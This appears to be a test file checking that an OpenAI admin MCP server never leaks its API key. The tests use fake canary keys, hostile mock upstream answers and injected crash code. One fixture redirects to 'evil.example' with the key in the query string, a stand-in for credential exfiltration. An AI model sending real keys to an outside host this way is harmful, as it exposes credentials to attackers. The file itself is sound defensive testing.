/** The proof that a key which OpenAI, the user or a crash repeats comes out of no way out of the built program. */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { OPTIONS } from '../../src/settings/options.ts';
import { answer } from '../openai/fault-server.ts';
import { runToEnd, type Server, startServer, temporaryFolder } from './start-server.ts';
import { type Respond, startUpstream } from './upstream.ts';

const KEYS = {
  'of the usual form': 'sk-admin-Zq7CanaryGvR0aVb1Wc2Xd3Ye4Zf5Ag6Bh7Ci8Dj9T3BlbkFJ',
  'with quotes and signs': 'sk-admin-Zq7"Canary\'GvR\\0aVb1&Wc2<Xd3>Ye4%41Zf5+Ag6',
};

const COMMON = ['sk-admin-', 'sk-proj-'];

/** The key in every spelling that a reader could turn back, and each half of it. */
function tracesOf(key: string): string[] {
  const secret = COMMON.reduce((text, prefix) => text.replace(prefix, ''), key);
  const middle = Math.ceil(secret.length / 2);
  return [key, secret, secret.slice(0, middle), secret.slice(middle)].flatMap((part) => [
    part,
    JSON.stringify(part).slice(1, -1),
    encodeURIComponent(part),
    Buffer.from(part).toString('hex'),
    (Buffer.from(part).toString('hex').match(/../g) ?? []).join(' '),
    ...[0, 1, 2].map((offset) =>
      Buffer.from(`${'x'.repeat(offset)}${part}`)
        .toString('base64')
        .slice(4, -4),
    ),
  ]);
}

/** Looks at a text as it is, without case, and with its escapes undone. */
function expectNoTrace(text: string, key: string, where: string): void {
  const undone = text
    .replace(/\\+u([0-9a-f]{4})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/%([2-7][0-9a-f])/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)));
  const layers = [text, undone].map((layer) => layer.toLowerCase());
  const found = tracesOf(key).filter((trace) => layers.some((layer) => layer.includes(trace.toLowerCase())));
  expect(found, where).toEqual([]);
}

/** Everything that the program left in a folder. */
function filesIn(folder: string): string {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .map(
      (entry) =>
        join(entry.parentPath, entry.name) +
        (entry.isFile() ? readFileSync(join(entry.parentPath, entry.name), 'latin1') : ''),
    )
    .join('\n');
}

const project = (fields: object) => ({
  object: 'list',
  data: [{ id: 'proj_a', object: 'organization.project', name: 'A', created_at: 1_790_000_000, ...fields }],
  has_more: false,
});

const ok =
  (fields: (key: string) => object): Respond =>
  (request) =>
    request.socket.write(answer(200, JSON.stringify(project(fields(keyOf(request))))));

const refuse =
  (status: number, error: (key: string) => unknown): Respond =>
  (request) =>
    request.socket.write(answer(status, JSON.stringify({ error: error(keyOf(request)) })));

const raw =
  (text: (key: string) => string | Buffer): Respond =>
  (request) =>
    request.socket.end(text(keyOf(request)));

const keyOf = (request: Parameters<Respond>[0]) =>
  (request.headers.authorization ?? '').replace('Bearer ', '');
const headerSafe = (key: string) => key.replace(/[^!-~]/g, '');
const letters = (key: string, write: (code: number) => string) => [...Buffer.from(key)].map(write).join('');
const inBase64 = (text: string) => Buffer.from(text).toString('base64');

/** How an answer of OpenAI, or of what stands before it, can repeat the key that it was sent. */
const ANSWERS: Record<string, Respond> = {
  ...Object.fromEntries(
    [400, 401, 402, 403, 404, 408, 409, 422, 429, 451, 500, 502, 503, 504, 529].map((status) => [
      `the message of a ${status}`,
      refuse(status, (key) => ({
        message: `Incorrect API key provided: ${key}. You have ${key}`,
        type: 'x',
      })),
    ]),
  ),
  'the code of an error': refuse(400, (key) => ({ message: 'no', code: key })),
  'the type of an error': refuse(400, (key) => ({ message: 'no', type: key })),
  'the parameter of an error': refuse(400, (key) => ({ message: 'no', param: `a[${key}]` })),
  'an error that is a text': refuse(400, (key) => key),
  'the scopes of an error': refuse(403, (key) => ({ message: `Missing scopes: ${key}` })),
  'an error in base64': refuse(401, (key) => ({ message: `Basic ${inBase64(`user:${key}`)}` })),
  'an error with escapes': refuse(401, (key) => ({
    message: letters(key, (code) => `%${code.toString(16)}`),
  })),
  'a very long error': refuse(400, (key) => ({ message: 'x'.repeat(480) + key })),
  'plain text': (request) =>
    request.socket.write(answer(500, `failed for ${keyOf(request)}`, { 'content-type': 'text/plain' })),
  'HTML with 200': raw((key) => answer(200, `<p>${key}</p>`, { 'content-type': 'text/html' })),
  'HTML with 503': raw((key) => answer(503, `<p>${key}</p>`, { 'content-type': 'text/html' })),
  'a redirect': raw((key) =>
    answer(302, '', { location: `https://evil.example/?k=${encodeURIComponent(key)}` }),
  ),
  'a redirect to a user name': raw((key) =>
    answer(307, '', { location: `https://${encodeURIComponent(key)}@x/` }),
  ),
  'the request id': raw((key) =>
    answer(200, JSON.stringify(project({})), { 'x-request-id': headerSafe(key) }),
  ),
  'the request id of an error': raw((key) => answer(401, '{}', { 'x-request-id': headerSafe(key) })),
  'a rate-limit header': raw((key) =>
    answer(429, '{}', { 'x-ratelimit-limit-requests': headerSafe(key), 'retry-after': headerSafe(key) }),
  ),
  'the name of a header': raw((key) => answer(500, '{}', { [key.replace(/[^\w-]/g, '')]: '1' })),
  'the status line': raw((key) => `HTTP/1.1 401 ${headerSafe(key)}\r\ncontent-length: 2\r\n\r\n{}`),
  'no HTTP at all': raw((key) => `${key}\r\n\r\n`),
  'a broken header': raw((key) => `HTTP/1.1 200 OK\r\n${key}\r\n\r\n`),
  'a broken chunk': raw((key) => `HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n${key}\r\n`),
  'half an answer': raw((key) => `HTTP/1.1 200 OK\r\ncontent-length: 999\r\n\r\n{"data":["${key}`),
  'broken JSON': raw((key) => answer(200, `{"data": ${key}`)),
  'an encoding': raw((key) => answer(200, '{}', { 'content-encoding': headerSafe(key) })),
  'a gzipped error': (request) => {
    const body = gzipSync(JSON.stringify({ error: { message: keyOf(request) } }));
    request.socket.write(
      `HTTP/1.1 401 No\r\ncontent-encoding: gzip\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`,
    );
    request.socket.write(body);
  },
  'a name in a result': ok((key) => ({ name: key })),
  'a name that is a header': ok((key) => ({ name: `Authorization: Bearer ${key}` })),
  'a nested result': ok((key) => ({ a: [{ b: [[{ c: key }]] }] })),
  'a name of a field': ok((key) => ({ [key]: 1, metadata: { [key]: key } })),
  'JSON in a result': ok((key) => ({ name: JSON.stringify({ inner: JSON.stringify({ key }) }) })),
  'base64 in a result': ok((key) => ({
    a: inBase64(key),
    b: inBase64(`u:${key}`),
    c: inBase64(`ab${key}cd`),
  })),
  'base64url in a result': ok((key) => ({ name: Buffer.from(`x:${key}`).toString('base64url') })),
  'hex in a result': ok((key) => ({ name: Buffer.from(key).toString('hex') })),
  'a URL in a result': ok((key) => ({ name: `https://x/?key=${encodeURIComponent(key)}` })),
  'small letters in a result': ok((key) => ({ name: key.toLowerCase() })),
  'percent signs in a result': ok((key) => ({ name: letters(key, (code) => `%${code.toString(16)}`) })),
  'escapes in a result': ok((key) => ({ name: letters(key, (code) => `\\u00${code.toString(16)}`) })),
  'entities in a result': ok((key) => ({ name: letters(key, (code) => `&#${code};`) })),
  'a result cut at its limit': ok((key) => ({ name: 'x'.repeat(15_970) + key })),
  'a half of it in a result': ok((key) => ({ name: key.slice(0, 32), id: key.slice(-24) })),
  'a cursor': (request) =>
    request.socket.write(
      answer(200, JSON.stringify({ ...project({}), has_more: true, last_id: keyOf(request) })),
    ),
  'its ID in a result': ok((key) => ({ id: key })),
};

/** Most of the time is waiting before a request is repeated, so servers wait side by side. */
const SHARES = [0, 1, 2, 3].map((share) => Object.entries(ANSWERS).filter((_, index) => index % 4 === share));

it('there are answers of every kind', () => {
  expect(SHARES.flat().length).toBeGreaterThan(55);
});

describe.each(Object.entries(KEYS))('a key %s', (_, key) => {
  it('comes back from no answer', async () => {
    await Promise.all(SHARES.map((ways) => tryAnswers(ways, key)));
  });

  it('comes back from nothing that a client sends', async () => {
    const upstream = await startUpstream();
    const home = temporaryFolder();
    const server = await startServer({
      args: ['--log-level', 'debug', '--tags', 'all'],
      environment: { OPENAI_ADMIN_KEY: key, OPENAI_BASE_URL: upstream.url, HOME: home, TMPDIR: home },
    });
    const call = (name: string, given: object) => server.request('tools/call', { name, arguments: given });
    await call(key, {});
    await call('list_projects', { [key]: 1 });
    await call('list_projects', { limit: key });
    await call('list_projects', { cursor: key });
    await call('get_project', { project_id: key });
    await call('get_project', { project_id: { [key]: key } });
    await call('list_project_users', { project_id: `A ${key}` });
    await call('list_costs', { start_time: key, group_by: [key] });
    await call('create_project', { name: key });
    await call('list_projects', { limit: { toString: key } });
    await server.request(key);
    await server.request('tools/list', { cursor: key });
    await server.request('tools/list', { [key]: key });
    server.notify(key, { key });
    server.write(`${key}\n{"jsonrpc":"2.0","id":"${Buffer.from(key).toString('hex')}","method":"x"}\n`);
    server.write(
      `{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":${JSON.stringify(key)}}}\n`,
    );
    await server.request('ping');
    await expectQuiet(server, key, home);
  });

  it.each(Object.entries(CRASHES))('comes out of no crash: %s', async (_name, code) => {
    const home = temporaryFolder();
    const preload = join(home, 'crash.cjs');
    writeFileSync(preload, `const key = process.env.OPENAI_ADMIN_KEY; setTimeout(() => { ${code} }, 100);`);
    const server = await startServer({
      args: ['--log-level', 'debug'],
      environment: { OPENAI_ADMIN_KEY: key, HOME: home, TMPDIR: home, NODE_OPTIONS: `--require ${preload}` },
      revision: 'none',
    });
    await server.exited;
    expect(server.stderr()).not.toBe('');
    expectNoTrace(server.stdout() + server.stderr() + filesIn(home), key, code);
  });
});

/** What a part of the program, or of Node, could do at the worst moment. */
const CRASHES = {
  'an exception': 'throw new TypeError(key + "\\n    at " + key);',
  'its name': 'throw Object.assign(new Error("x"), { name: key, stack: key });',
  'a thrown text': 'throw key;',
  'a rejection': 'Promise.reject(new Error(key));',
  'a rejection with an object': 'Promise.reject({ key, headers: { authorization: "Bearer " + key } });',
  'a warning': 'process.emitWarning(key, { code: key, detail: key }); setTimeout(() => process.exit(1), 50);',
  'a forgotten print':
    'console.error({ headers: { authorization: "Bearer " + key } }, Buffer.from(key)); process.exit(1);',
  'a trace': 'console.trace(key); process.exit(1);',
  'a print in two parts':
    'process.stderr.write(key.slice(0, 25)); process.stderr.write(key.slice(25)); process.exit(1);',
  bytes: 'process.stderr.write(Buffer.from(key)); process.exit(1);',
  'its last words': 'process.stderr.end(key); setTimeout(() => process.exit(1), 50);',
};

/** Every flag that takes a value. */
const FLAGS = OPTIONS.filter((row) => row.kind !== 'switch').map((row) => `--${row.flag}`);

describe.each(Object.entries(KEYS))('a key %s', (_, key) => {
  it('is not repeated by a start that fails', async () => {
    const home = temporaryFolder();
    const keyFile = join(home, 'keys');
    writeFileSync(keyFile, `OPENAI_ADMIN_KEY=${JSON.stringify(`${key}\n${key}`)}\nother ${key}\n`, {
      mode: 0o600,
    });
    const openFile = join(home, 'open');
    writeFileSync(openFile, key, { mode: 0o644 });
    const specs = join(home, 'specs');
    mkdirSync(specs);
    writeFileSync(join(specs, 'own.yaml'), `family: ${JSON.stringify(key)}\n${JSON.stringify(key)}: [\n`);
    const inUrl = encodeURIComponent(key);
    const ways: [words: string[], environment?: Record<string, string>][] = [
      ...FLAGS.map((flag): [string[]] => [[flag, key]]),
      [[key]],
      [[`--${key}`]],
      [['auth', key]],
      [['auth', 'login', '--profile', key]],
      [['auth', 'login', '--project', key, '--stdin']],
      [['auth', 'status', '--key-file', keyFile]],
      [['auth', 'status', '--key-file', openFile]],
      [['auth', 'status', '--key-file', join(home, key.replaceAll('/', ''))]],
      [['auth', 'status', '--json'], { OPENAI_ADMIN_KEY: `${key}\n${key}`, OPENAI_API_KEY: key }],
      [['auth', 'logout', '--profile', key]],
      [['sandbox', '--port', key]],
      [['sandbox', '--fail', key]],
      [['specs', 'check', specs]],
      [['specs', 'check', key]],
      [['help', key]],
      [['--key-file', keyFile]],
      [['--key-file', openFile]],
      [['--tool-specs', specs]],
      [[], { OPENAI_BASE_URL: `https://${inUrl}:${inUrl}@api.openai.com/v1` }],
      [[], { OPENAI_BASE_URL: `https://${key.replace(/[^\w-]/g, '')}.example/v1` }],
      [[], { OPENAI_BASE_URL: `https://api.openai.com/v1?key=${inUrl}` }],
      [[], { OPENAI_ORG_ID: `${key} ${key}` }],
      [[], { OPENAI_ADMIN_MCP_TAGS: key }],
      [[], { OPENAI_ADMIN_MCP_PROFILE: key }],
      [[], { OPENAI_ADMIN_MCP_KEY: key }],
      [[], { HTTPS_PROXY: `http://user:${inUrl}@` }],
    ];
    for (const [words, environment = {}] of ways) {
      const run = await runToEnd(words, { HOME: home, TMPDIR: home, ...environment });
      const where = `${words.join(' ')} ${JSON.stringify(environment)}`;
      expect(run.stdout + run.stderr, where).not.toBe('');
      expectNoTrace(run.stdout, key, `stdout of ${where}`);
      expectNoTrace(run.stderr, key, `stderr of ${where}`);
    }
  });
});

/** Nothing in the log, the list of processes and the files; the program still works and ends as it should. */
async function expectQuiet(server: Server, key: string, home: string): Promise<void> {
  expect((await server.request('ping')).error).toBeUndefined();
  if (process.platform === 'linux') {
    expectNoTrace(readFileSync(`/proc/${server.pid}/cmdline`, 'utf8'), key, 'list of processes');
  }
  expectNoTrace(filesIn(home), key, 'files');
  server.kill('SIGTERM');
  await server.exited;
  expectNoTrace(server.stdout(), key, 'stdout');
  expectNoTrace(server.stderr(), key, 'stderr');
}

/** Gets each answer for a read and for a write, from a server of its own. */
async function tryAnswers(ways: [string, Respond][], key: string): Promise<void> {
  let respond: Respond = () => undefined;
  const upstream = await startUpstream((request) => respond(request));
  const home = temporaryFolder();
  const server = await startServer({
    args: ['--log-level', 'debug', '--tags', 'all', '--timeout', '5'],
    environment: {
      OPENAI_ADMIN_KEY: key,
      OPENAI_BASE_URL: upstream.url,
      HOME: home,
      TMPDIR: home,
      NODE_DEBUG: 'http,net,stream,undici,fetch,timer',
    },
  });
  for (const [name, way] of ways) {
    respond = way;
    const before = server.stdout().length;
    const message = await server.request('tools/call', { name: 'list_projects', arguments: {} });
    expect(message.result ?? message.error, name).toBeDefined();
    expectNoTrace(server.stdout().slice(before), key, name);
    await server.request('tools/call', { name: 'create_project', arguments: { name: 'x' } });
    expectNoTrace(server.stdout().slice(before), key, `${name}, of a write`);
  }
  expect(upstream.requests.length).toBeGreaterThanOrEqual(2 * ways.length);
  await expectQuiet(server, key, home);
}
